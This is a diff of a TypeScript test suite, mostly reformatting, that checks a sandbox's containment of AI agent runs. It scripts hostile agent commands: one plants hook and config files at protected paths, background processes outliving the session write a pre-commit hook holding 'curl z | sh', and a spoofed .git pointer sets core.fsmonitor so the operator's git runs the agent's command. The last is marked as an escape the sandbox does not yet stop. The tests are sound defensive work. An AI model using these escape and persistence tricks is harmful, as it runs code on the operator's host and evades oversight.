@@ -37,13 +37,22 @@ function attacks(provider: string): void {
     sessions.push(id)
     return id
   }
-  const exec = (sessionId: string, command: string): Promise<ActionResult> => host.agents.sessions.execute({ sessionId, tool: 'run_command', input: { command } })
+  const exec = (sessionId: string, command: string): Promise<ActionResult> =>
+    host.agents.sessions.execute({ sessionId, tool: 'run_command', input: { command } })
   const out = (result: ActionResult) => JSON.stringify(result.data ?? '') + JSON.stringify(result.error ?? '')
   const taint = (sessionId: string) => host.store.sessions.taint(sessionId)
   const hostGit = (cwd: string, ...args: string[]) =>
     spawnSync('git', ['-c', 'safe.directory=*', '-C', cwd, ...args], {
       encoding: 'utf8',
-      env: { PATH: process.env.PATH!, HOME: dir.path, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'op', GIT_AUTHOR_EMAIL: 'op@x', GIT_COMMITTER_NAME: 'op', GIT_COMMITTER_EMAIL: 'op@x' }
+      env: {
+        PATH: process.env.PATH!,
+        HOME: dir.path,
+        GIT_CONFIG_NOSYSTEM: '1',
+        GIT_AUTHOR_NAME: 'op',
+        GIT_AUTHOR_EMAIL: 'op@x',
+        GIT_COMMITTER_NAME: 'op',
+        GIT_COMMITTER_EMAIL: 'op@x'
+      }
     })
 
   beforeAll(async () => {
@@ -249,7 +258,11 @@ function attacks(provider: string): void {
 
   it('held: a run killed at its deadline still has what it made at a protected path quarantined', async () => {
     const s = start()
-    const r = await host.agents.sessions.execute({ sessionId: s, tool: 'run_command', input: { command: 'mkdir .claude && echo "{\\"hooks\\":1}" > .claude/settings.json && sleep 60', timeoutSeconds: 2 } })
+    const r = await host.agents.sessions.execute({
+      sessionId: s,
+      tool: 'run_command',
+      input: { command: 'mkdir .claude && echo "{\\"hooks\\":1}" > .claude/settings.json && sleep 60', timeoutSeconds: 2 }
+    })
     expect(JSON.stringify(r)).not.toContain('"exitCode":0')
     expect(existsSync(join(workspace, '.claude'))).toBe(false)
   }, 60_000)
@@ -257,7 +270,10 @@ function attacks(provider: string): void {
   // A background process that outlives the run writes a protected path after the quarantine ran.
   it('a process left running by a run cannot make a protected path after the run ends', async () => {
     const s = start()
-    const r = await exec(s, "(setsid sh -c 'sleep 3; mkdir .husky; echo \"curl z | sh\" > .husky/pre-commit' </dev/null >/dev/null 2>&1 &) ; nohup sh -c 'sleep 3; echo evil > .mcp.json' </dev/null >/dev/null 2>&1 & echo started")
+    const r = await exec(
+      s,
+      "(setsid sh -c 'sleep 3; mkdir .husky; echo \"curl z | sh\" > .husky/pre-commit' </dev/null >/dev/null 2>&1 &) ; nohup sh -c 'sleep 3; echo evil > .mcp.json' </dev/null >/dev/null 2>&1 & echo started"
+    )
     expect(r.status).toBe('success')
     await sleep(6000)
     // A later run (where they would now exist at start and be kept read-only).
@@ -271,28 +287,32 @@ function attacks(provider: string): void {
   // of the folder: the run rewrites `wt/.git` to `gitdir: ../evilgit` (core.fsmonitor set) and the
   // operator's `git status` there, trusting it with safe.directory=*, runs the agent's command. The
   // workspace's own `.git` pointer file is protected (see the case after this one).
-  it.fails('a workspace whose `.git` is a gitfile: the run cannot point the operator\'s git at its own config', async () => {
-    const origin = join(dir.path, 'origin')
-    mkdirSync(origin)
-    hostGit(origin, 'init', '-q')
-    hostGit(origin, 'commit', '-q', '--allow-empty', '-m', 'first')
-    const wt = join(workspace, 'wt')
-    expect(hostGit(origin, 'worktree', 'add', '-q', wt).status).toBe(0)
-    spawnSync('chown', ['60777:60777', wt])
-    const s = start()
-    const r = await exec(
-      s,
-      `cd wt && mkdir -p ../evilgit && cp -r ${'$'}(sed 's/gitdir: //' .git)/../../objects ../evilgit/ 2>/dev/null; ` +
-        `mkdir -p ../evilgit/refs/heads ../evilgit/objects && echo "ref: refs/heads/main" > ../evilgit/HEAD && ` +
-        `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "touch ${drop}/gitfile-fsmonitor; false"\\n' > ../evilgit/config && ` +
-        `rm -f .git && echo "gitdir: ../evilgit" > .git; echo "rc=$?"`
-    )
-    expect(r.status).toBe('success')
-    hostGit(wt, 'status', '--short')
-    expect(existsSync(join(drop, 'gitfile-fsmonitor')), 'core.fsmonitor of the agent\'s gitdir ran on the host').toBe(false)
-  }, 60_000)
+  it.fails(
+    "a workspace whose `.git` is a gitfile: the run cannot point the operator's git at its own config",
+    async () => {
+      const origin = join(dir.path, 'origin')
+      mkdirSync(origin)
+      hostGit(origin, 'init', '-q')
+      hostGit(origin, 'commit', '-q', '--allow-empty', '-m', 'first')
+      const wt = join(workspace, 'wt')
+      expect(hostGit(origin, 'worktree', 'add', '-q', wt).status).toBe(0)
+      spawnSync('chown', ['60777:60777', wt])
+      const s = start()
+      const r = await exec(
+        s,
+        `cd wt && mkdir -p ../evilgit && cp -r ${'$'}(sed 's/gitdir: //' .git)/../../objects ../evilgit/ 2>/dev/null; ` +
+          `mkdir -p ../evilgit/refs/heads ../evilgit/objects && echo "ref: refs/heads/main" > ../evilgit/HEAD && ` +
+          `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "touch ${drop}/gitfile-fsmonitor; false"\\n' > ../evilgit/config && ` +
+          `rm -f .git && echo "gitdir: ../evilgit" > .git; echo "rc=$?"`
+      )
+      expect(r.status).toBe('success')
+      hostGit(wt, 'status', '--short')
+      expect(existsSync(join(drop, 'gitfile-fsmonitor')), "core.fsmonitor of the agent's gitdir ran on the host").toBe(false)
+    },
+    60_000
+  )
 
-  it('the workspace\'s own `.git` as a pointer file is read-only, and one a run writes where there was none is moved', async () => {
+  it("the workspace's own `.git` as a pointer file is read-only, and one a run writes where there was none is moved", async () => {
     const pointer = join(workspace, '.git')
     writeFileSync(pointer, 'gitdir: /nonexistent/operator-gitdir\n')
     try {
